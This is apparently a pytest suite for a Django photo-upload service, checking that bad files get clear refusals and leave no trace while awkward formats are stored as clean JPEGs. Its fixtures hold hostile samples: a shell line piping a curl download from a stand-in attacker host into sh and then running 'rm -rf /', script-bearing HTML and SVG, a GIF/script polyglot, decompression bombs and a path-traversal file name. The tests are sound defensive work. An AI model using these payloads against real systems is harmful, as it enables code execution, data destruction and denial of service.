"""Bad and awkward uploads: each gets a clear answer, never a 500, and a refusal leaves no trace.

Every file is generated here, from the shared face photos or from nothing:
broken, lying, hostile, huge, tiny, odd colour modes, rotated, faceless,
crowded. Refused files must leave the database, the media folder and the
queues exactly as they were; accepted ones are stored as a clean sRGB JPEG
and processed by a real worker with the real face model.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from PIL import Image, ImageDraw

from families import services as family_services
from families.models import AuditEntry, Photo
from families.uploads import normalise_photo
from matching import services as matching_services
from matching.faces import Box
from matching.models import Face, MatchJob
from tests import builders

FACE = "img1.jpg"  # a single adult face, portrait, 1382×1868


# --- Building files ---------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _handmade_png(
    width: int, height: int, *, bit_depth: int, colour_type: int, rows: bytes,
    extra: tuple[bytes, ...] = (),
) -> bytes:
    """A PNG written byte by byte, so it can say things Pillow would never write."""
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + b"".join(extra)
        + _png_chunk(b"IDAT", zlib.compress(rows, 9))
        + _png_chunk(b"IEND", b"")
    )


def _encode(image: Image.Image, fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **options)
    return out.getvalue()


def _face(photo_bytes: Callable[[str], bytes], side: int = 600) -> Image.Image:
    """The shared face photo, scaled so its long side is ``side``."""
    image = Image.open(io.BytesIO(photo_bytes(FACE))).convert("RGB")
    image.thumbnail((side, side))
    return image


def _truncated_jpeg(pb):
    data = _encode(_face(pb), "JPEG", quality=90)
    return data[: len(data) // 2]


def _html_renamed(pb):
    return b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


def _shell_script(pb):
    return b"#!/bin/sh\ncurl http://attacker.invalid/x | sh\nrm -rf /\n"


def _svg_with_script(pb):
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="400" '
        b'height="400"><script>alert(1)</script><rect width="400" height="400"/></svg>'
    )


def _pdf_renamed(pb):
    return b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def _png_claims_30000(pb):
    """The header says 30000×30000; the data is a few bytes."""
    return _handmade_png(30000, 30000, bit_depth=8, colour_type=0, rows=b"\0" * 100)


def _jpeg_claims_65500(pb):
    """A real small JPEG whose frame header was edited to claim 65500×65500 pixels."""
    data = bytearray(_encode(_face(pb, 200), "JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5: sof + 9] = struct.pack(">HH", 65500, 65500)
    return bytes(data)


def _decompression_bomb(pb):
    """A valid 9000×9000 PNG (81 megapixels, ~80 kB): small on disk, huge in memory."""
    rows = b"\0" * (9001 * 9000)
    return _handmade_png(9000, 9000, bit_depth=8, colour_type=0, rows=rows)


def _text_chunk_bomb(pb):
    """A small PNG carrying a compressed text chunk that inflates to 100 MB."""
    text = b"Comment\0\0" + zlib.compress(b"A" * 100_000_000, 9)
    image = _face(pb, 64).convert("L")
    rows = b"".join(b"\0" + image.tobytes()[y * 64: (y + 1) * 64] for y in range(image.height))
    return _handmade_png(
        64, image.height, bit_depth=8, colour_type=0, rows=rows,
        extra=(_png_chunk(b"zTXt", text),),
    )


def _png_bad_crc(pb):
    data = bytearray(_encode(_face(pb, 200), "PNG"))
    idat = data.index(b"IDAT")
    data[idat + 10] ^= 0xFF  # a flipped byte inside the image data
    return bytes(data)


def _unreadable_heic(pb):
    """An HEIC header (the ftyp box of an iPhone photo) followed by garbage."""
    ftyp = b"ftypheic\0\0\0\0mif1heic"
    return struct.pack(">I", len(ftyp) + 4) + ftyp + bytes(range(256)) * 40


def _gif_polyglot(pb):
    """A GIF signature in front of a script, as used to smuggle code past type checks."""
    return b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);" + b"\0" * 64


def _ico_file(pb):
    """A real icon: Pillow can read it, but its decoder is not one uploads may use."""
    return _encode(_face(pb, 64), "ICO")


def _one_pixel(pb):
    return _encode(Image.new("RGB", (1, 1), (200, 150, 120)), "PNG")


def _thin_strip(pb):
    return _encode(Image.new("RGB", (4000, 20), (200, 150, 120)), "PNG")


def _over_byte_limit(pb):
    """A valid JPEG padded past the byte limit: refused before any decoder runs."""
    data = _encode(_face(pb), "JPEG")
    return data + b"\0" * (settings.PHOTO_MAX_BYTES + 1 - len(data))


def _zero_bytes(pb):
    return b""


@dataclass(frozen=True)
class Refused:
    build: Callable[[Callable[[str], bytes]], bytes]
    code: str
    says: str


REFUSED = {
    "zero bytes": Refused(_zero_bytes, "empty", "empty"),
    "truncated JPEG": Refused(_truncated_jpeg, "damaged", "damaged or incomplete"),
    "HTML renamed .jpg": Refused(_html_renamed, "format", "not a photo we can read"),
    "shell script renamed .jpg": Refused(_shell_script, "format", "not a photo we can read"),
    "SVG with a script": Refused(_svg_with_script, "format", "not a photo we can read"),
    "PDF renamed .jpg": Refused(_pdf_renamed, "format", "not a photo we can read"),
    "ICO (decoder not allowed)": Refused(_ico_file, "format", "not a photo we can read"),
    "GIF/script polyglot": Refused(_gif_polyglot, "format", "not a photo we can read"),
    "PNG claiming 30000×30000": Refused(_png_claims_30000, "too_many_pixels", "too big"),
    "JPEG claiming 65500×65500": Refused(_jpeg_claims_65500, "too_many_pixels", "too big"),
    "decompression bomb (81 MP PNG)": Refused(_decompression_bomb, "too_many_pixels", "9000×9000"),
    "PNG text-chunk bomb": Refused(_text_chunk_bomb, "damaged", "damaged or incomplete"),
    "PNG with a broken checksum": Refused(_png_bad_crc, "damaged", "damaged or incomplete"),
    "unreadable HEIC": Refused(_unreadable_heic, "format", "not a photo we can read"),
    "1×1 pixel": Refused(_one_pixel, "too_small", "too small (1×1 pixels)"),
    "4000×20 strip": Refused(_thin_strip, "too_small", "too small (4000×20 pixels)"),
    "over the byte limit": Refused(_over_byte_limit, "too_large", "the limit is 20 MB"),
}


def _exif_rotated(pb):
    """The face photo stored lying on its side, with EXIF orientation 6 saying "turn right"."""
    upright = _face(pb, 800)
    exif = Image.Exif()
    exif[0x0112] = 6
    return _encode(upright.transpose(Image.Transpose.ROTATE_90), "JPEG", quality=95, exif=exif)


def _with_gps_and_comment(pb):
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (34.0, 15.0, 30.0), "E", (108.0, 56.0, 10.0)
    return _encode(
        _face(pb), "JPEG", exif=exif, comment=b"<script>alert(1)</script> home address"
    )


def _broken_exif(pb):
    """An EXIF block that claims an IFD far past its end: the pixels are still a photo."""
    exif = b"Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x02\x01\x12\x00\x03\xff\xff\xff\xff"
    return _encode(_face(pb), "JPEG", exif=exif)


def _cmyk_jpeg(pb):
    return _encode(_face(pb).convert("CMYK"), "JPEG", quality=95)


def _sixteen_bit_rgb_png(pb):
    image = _face(pb, 300)
    wide = np.asarray(image).astype(">u2") * 257
    rows = b"".join(b"\0" + wide[y].tobytes() for y in range(image.height))
    return _handmade_png(image.width, image.height, bit_depth=16, colour_type=2, rows=rows)


def _sixteen_bit_grey_png(pb):
    grey = np.asarray(_face(pb, 300).convert("L")).astype(np.uint16) * 257
    return _encode(Image.fromarray(grey), "PNG")


def _png_with_alpha(pb):
    image = _face(pb, 300).convert("RGBA")
    alpha = Image.new("L", image.size, 255)
    ImageDraw.Draw(alpha).rectangle((0, 0, image.width, 40), fill=0)  # a transparent top band
    image.putalpha(alpha)
    return _encode(image, "PNG")


def _animated_gif(pb):
    first = _face(pb, 300)
    frames = [Image.new("RGB", first.size, colour) for colour in ((255, 0, 0), (0, 0, 255))]
    return _encode(first, "GIF", save_all=True, append_images=frames, duration=200, loop=0)


def _greyscale_jpeg(pb):
    return _encode(_face(pb).convert("L"), "JPEG")


def _heic(pb):
    from pillow_heif import from_pillow

    out = io.BytesIO()
    from_pillow(_face(pb)).save(out, format="HEIF", quality=90)
    return out.getvalue()


def _webp(pb):
    return _encode(_face(pb), "WEBP", quality=90)


def _mpo(pb):
    """A multi-picture JPEG, as many phones save them (the second picture is dropped)."""
    face = _face(pb)
    return _encode(face, "MPO", save_all=True, append_images=[face.resize((160, 120))])


def _tiff_scan(pb):
    return _encode(_face(pb), "TIFF", compression="tiff_lzw")


def _bmp(pb):
    return _encode(_face(pb), "BMP")


def _big_phone_photo(pb):
    """The shared photo as it came, but 4600 pixels wide: stored at the size limit."""
    image = Image.open(io.BytesIO(pb(FACE))).convert("RGB").resize((3450, 4664))
    return _encode(image, "JPEG", quality=85)


ACCEPTED = {
    "EXIF-rotated photo": _exif_rotated,
    "JPEG with GPS and a comment": _with_gps_and_comment,
    "JPEG with a broken EXIF block": _broken_exif,
    "CMYK JPEG": _cmyk_jpeg,
    "16-bit RGB PNG": _sixteen_bit_rgb_png,
    "16-bit greyscale PNG": _sixteen_bit_grey_png,
    "PNG with alpha": _png_with_alpha,
    "animated GIF": _animated_gif,
    "greyscale JPEG": _greyscale_jpeg,
    "HEIC": _heic,
    "WebP": _webp,
    "MPO (phone multi-picture JPEG)": _mpo,
    "TIFF scan": _tiff_scan,
    "BMP": _bmp,
    "16-megapixel photo": _big_phone_photo,
}


# --- Fixtures -----------------------------------------------------------------


def _media_files(media_root: Path) -> set[str]:
    return {str(path.relative_to(media_root)) for path in media_root.rglob("*") if path.is_file()}


def _state(media_root: Path, queues: dict) -> dict[str, object]:
    """Everything a refused upload must leave as it was."""
    return {
        "photos": Photo.objects.count(),
        "faces": Face.objects.count(),
        "match_jobs": MatchJob.objects.count(),
        "audit": AuditEntry.objects.count(),
        "files": _media_files(media_root),
        "queued": {name: queue.count for name, queue in queues.items()},
    }


def _stored(photo: Photo) -> Image.Image:
    with photo.image.open("rb") as handle:
        image = Image.open(io.BytesIO(handle.read()))
        image.load()
    return image


def _mean_difference(a: Image.Image, b: Image.Image) -> float:
    b = b.convert("RGB").resize(a.size)
    return float(np.abs(np.asarray(a, dtype=float) - np.asarray(b, dtype=float)).mean())


# --- Refused files --------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("name", list(REFUSED))
def test_bad_file_is_refused_with_a_clear_message_and_leaves_no_trace(
    name, make_user, photo_bytes, media_root, redis_queues, django_capture_on_commit_callbacks
):
    bad = REFUSED[name]
    data = bad.build(photo_bytes)
    family = make_user()
    case = builders.case(family=family)
    before = _state(media_root, redis_queues)

    with (
        django_capture_on_commit_callbacks(execute=True) as callbacks,
        pytest.raises(ValidationError) as refused,
    ):
        family_services.photo_add(actor=family, case=case, data=data, kind=Photo.Kind.CHILDHOOD)

    assert refused.value.code == bad.code, refused.value
    message = refused.value.messages[0]
    assert bad.says in message
    assert "Traceback" not in message and "Error" not in message
    assert callbacks == []
    assert _state(media_root, redis_queues) == before


def test_refusals_are_quick_even_for_hostile_files(photo_bytes):
    """Bombs are refused from their headers, not by decoding them."""
    import time

    for build in (_png_claims_30000, _jpeg_claims_65500, _decompression_bomb):
        data = build(photo_bytes)
        started = time.perf_counter()
        with pytest.raises(ValidationError):
            normalise_photo(data)
        assert time.perf_counter() - started < 0.5, build.__name__


# --- Accepted awkward files -------------------------------------------------------


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("name", list(ACCEPTED))
def test_awkward_file_is_stored_as_a_clean_srgb_jpeg(
    name, make_user, photo_bytes, media_root, redis_queues
):
    data = ACCEPTED[name](photo_bytes)
    family = make_user()
    photo = family_services.photo_add(
        actor=family, case=builders.case(family=family), data=data, kind=Photo.Kind.CHILDHOOD
    )

    stored = _stored(photo)
    assert stored.format == "JPEG"
    assert stored.mode == "RGB"
    assert (stored.width, stored.height) == (photo.width, photo.height)
    assert max(stored.size) <= settings.PHOTO_STORED_MAX_SIDE
    for leak in ("exif", "icc_profile", "comment", "dpi", "xmp", "photoshop"):
        assert leak not in stored.info, leak
    with photo.image.open("rb") as handle:
        raw = handle.read()
    for secret in (b"Exif", b"GPS", b"PhoneMaker", b"script", b"home address"):
        assert secret not in raw
    assert photo.image.name.startswith("photos/cases/") and photo.image.name.endswith(".jpg")
    assert _media_files(media_root) == {photo.image.name}
    assert redis_queues["face"].count == 1
    assert photo.face_state == Photo.FaceState.WAITING


def test_exif_orientation_is_applied(photo_bytes):
    upright = _face(photo_bytes, 800)
    stored = Image.open(io.BytesIO(normalise_photo(_exif_rotated(photo_bytes)).content))
    assert stored.size == upright.size
    assert _mean_difference(upright, stored) < 6
    # Without the tag the same pixels would be sideways: the check above can fail.
    sideways = upright.transpose(Image.Transpose.ROTATE_90)
    plain = Image.open(io.BytesIO(normalise_photo(_encode(sideways, "JPEG")).content))
    assert plain.size == (upright.height, upright.width)


@pytest.mark.parametrize(
    "build", [_cmyk_jpeg, _sixteen_bit_rgb_png, _sixteen_bit_grey_png, _greyscale_jpeg, _heic,
              _webp, _mpo, _tiff_scan, _bmp],
)
def test_colours_survive_normalisation(build, photo_bytes):
    """CMYK, 16-bit and grey files come out looking like the photo, not inverted or clipped."""
    original = _face(photo_bytes, 600 if build not in (_sixteen_bit_rgb_png,
                                                       _sixteen_bit_grey_png) else 300)
    if build in (_sixteen_bit_grey_png, _greyscale_jpeg):
        original = original.convert("L").convert("RGB")
    stored = Image.open(io.BytesIO(normalise_photo(build(photo_bytes)).content))
    assert stored.size == original.size
    assert _mean_difference(original, stored) < 12, build.__name__


def test_transparency_becomes_white_and_only_the_first_frame_is_kept(photo_bytes):
    alpha = Image.open(io.BytesIO(normalise_photo(_png_with_alpha(photo_bytes)).content))
    band = np.asarray(alpha)[:40]
    assert band.min() > 240, "the transparent band is white"
    assert _mean_difference(_face(photo_bytes, 300).crop((0, 41, 300, 300)),
                            alpha.crop((0, 41, 300, 300))) < 8

    gif = Image.open(io.BytesIO(normalise_photo(_animated_gif(photo_bytes)).content))
    assert getattr(gif, "n_frames", 1) == 1
    red, _green, blue = np.asarray(gif, dtype=float).reshape(-1, 3).mean(axis=0)
    assert abs(red - blue) < 60, "the face frame, not the red or blue frame"
    assert _mean_difference(_face(photo_bytes, 300), gif) < 25  # GIF has 256 colours


def test_big_photos_are_stored_at_the_size_limit(photo_bytes):
    stored = normalise_photo(_big_phone_photo(photo_bytes))
    assert max(stored.width, stored.height) == settings.PHOTO_STORED_MAX_SIDE
    assert stored.width / stored.height == pytest.approx(3450 / 4664, abs=0.002)


# --- Faces: none, many, tiny, rotated (real worker, real model) -------------------


def _face_crops(photo_bytes, identities, count: int) -> list[Image.Image]:
    """Square crops around the one face of ``count`` different people's photos."""
    from matching import faces

    engine = faces.get_engine()
    crops, seen = [], set()
    for name, person in sorted(identities.items()):
        if person in seen or len(crops) == count:
            continue
        image = Image.open(io.BytesIO(photo_bytes(name))).convert("RGB")
        found = engine.detect(np.asarray(image))
        if len(found) != 1:
            continue
        box = found[0].box
        margin = box.w // 2
        crops.append(image.crop((box.x - margin, box.y - margin,
                                 box.x + box.w + margin, box.y + box.h + margin)))
        seen.add(person)
    assert len(crops) == count
    return crops


def _eight_faces(photo_bytes, identities) -> bytes:
    """A 4×2 group photo of eight different people."""
    tile = 320
    sheet = Image.new("RGB", (tile * 4, tile * 2), (128, 128, 128))
    for index, crop in enumerate(_face_crops(photo_bytes, identities, 8)):
        sheet.paste(crop.resize((tile, tile)), ((index % 4) * tile, (index // 4) * tile))
    return _encode(sheet, "JPEG", quality=92)


def _tiny_face(photo_bytes, identities) -> tuple[bytes, tuple[int, int, int, int]]:
    """One 60-pixel face in a 3000×2000 crowd-less street-sized photo, and where it is."""
    rng = np.random.default_rng(6)
    background = rng.integers(90, 160, size=(2000, 3000, 3), dtype=np.uint8)
    canvas = Image.fromarray(background)
    crop = _face_crops(photo_bytes, identities, 1)[0].resize((90, 90))
    canvas.paste(crop, (2100, 700))
    return _encode(canvas, "JPEG", quality=92), (2100, 700, 90, 90)


def _no_face() -> bytes:
    """A landscape: sky, hills, a house. No one in it."""
    image = Image.new("RGB", (1200, 800), (135, 190, 235))
    draw = ImageDraw.Draw(image)
    draw.polygon([(0, 500), (300, 300), (700, 520), (1200, 350), (1200, 800), (0, 800)],
                 fill=(70, 120, 60))
    draw.rectangle((800, 420, 980, 560), fill=(180, 60, 40))
    return _encode(image, "JPEG")


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_faces_none_eight_tiny_and_rotated_get_the_right_result(
    make_user, photo_bytes, identities, run_worker
):
    family = make_user()
    case = builders.case(family=family)

    def add(data: bytes) -> Photo:
        return family_services.photo_add(
            actor=family, case=case, data=data, kind=Photo.Kind.CHILDHOOD
        )

    tiny_data, (tx, ty, tw, th) = _tiny_face(photo_bytes, identities)
    photos = {
        "none": add(_no_face()),
        "eight": add(_eight_faces(photo_bytes, identities)),
        "tiny": add(tiny_data),
        "rotated": add(_exif_rotated(photo_bytes)),
    }
    run_worker()
    for photo in photos.values():
        photo.refresh_from_db()

    none = photos["none"]
    assert none.face_state == Photo.FaceState.NO_FACE
    assert "pick the face" in none.face_state_detail
    assert not none.faces.exists()

    eight = photos["eight"]
    assert eight.face_state == Photo.FaceState.SEVERAL_FACES
    assert "8 faces" in eight.face_state_detail
    found = list(eight.faces.all())
    assert len(found) == 8
    tiles = {((f.box_x + f.box_w // 2) // 320, (f.box_y + f.box_h // 2) // 320) for f in found}
    assert len(tiles) == 8, "one face in each tile"
    assert not any(f.searchable or f.embedding is not None for f in found), (
        "no face of a group photo is matched until a person picks one"
    )

    # A 90-pixel face in a 3000-pixel photo is below what the detector sees on its
    # downscaled copy; looking again on the larger copy, YuNet finds it, on the face. The
    # family still draws its own box, which replaces the detected one.
    tiny = photos["tiny"]
    assert tiny.face_state == Photo.FaceState.FACE_FOUND
    (detected,) = tiny.faces.all()
    centre = (detected.box_x + detected.box_w / 2, detected.box_y + detected.box_h / 2)
    assert tx <= centre[0] <= tx + tw and ty <= centre[1] <= ty + th
    assert detected.picked_by is None and detected.embedding is not None
    matching_services.face_pick(
        actor=family, photo=tiny, box=Box(tx - 20, ty - 20, tw + 40, th + 40)
    )
    # In the group photo the family picks the first face the detector found.
    matching_services.face_pick(actor=family, photo=eight, face_id=found[0].pk)
    run_worker()
    for picked in (tiny, eight):
        picked.refresh_from_db()
        assert picked.face_state == Photo.FaceState.FACE_FOUND
        face = picked.faces.get()
        assert face.picked_by == family
        assert face.embedding is not None and len(face.embedding) == 128
        assert face.searchable

    rotated = photos["rotated"]
    assert rotated.face_state == Photo.FaceState.FACE_FOUND
    face = rotated.faces.get()
    assert face.embedding is not None
    assert face.box_h > face.box_w * 0.7 and face.box_y < rotated.height / 2, "upright face"


# --- The same files through the upload page --------------------------------------------


def _upload(client, case, data: bytes, *, name: str = "photo.jpg",
            content_type: str = "image/jpeg"):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    return client.post(
        reverse("families:case_photos", args=[case.pk]),
        {"image": SimpleUploadedFile(name, data, content_type=content_type),
         "kind": Photo.Kind.CHILDHOOD, "age_in_photo": "1"},
    )


@pytest.fixture
def uploader(make_user, client):
    from django.utils import timezone

    family = make_user(email_confirmed_at=timezone.now())
    client.force_login(family)
    return family


@pytest.mark.django_db
@pytest.mark.parametrize("name", list(REFUSED))
def test_upload_page_refuses_bad_files_with_the_message_and_no_trace(
    name, uploader, client, photo_bytes, media_root, redis_queues
):
    bad = REFUSED[name]
    case = builders.case(family=uploader)
    before = _state(media_root, redis_queues)
    response = _upload(client, case, bad.build(photo_bytes))
    assert response.status_code == 400
    assert bad.says.encode() in response.content
    assert _state(media_root, redis_queues) == before


@pytest.mark.django_db(transaction=True)
def test_upload_page_stores_an_awkward_file_under_a_name_of_its_own(
    uploader, client, photo_bytes, media_root, redis_queues
):
    """A lying content type and a hostile file name change nothing: the content decides."""
    case = builders.case(family=uploader)
    response = _upload(client, case, _heic(photo_bytes),
                       name="../../../etc/cron.d/x<script>.jpg", content_type="text/html")
    assert response.status_code == 302
    photo = Photo.objects.get(case=case)
    assert ".." not in photo.image.name and "script" not in photo.image.name
    assert _media_files(media_root) == {photo.image.name}
    assert _stored(photo).format == "JPEG"
    assert redis_queues["face"].count == 1
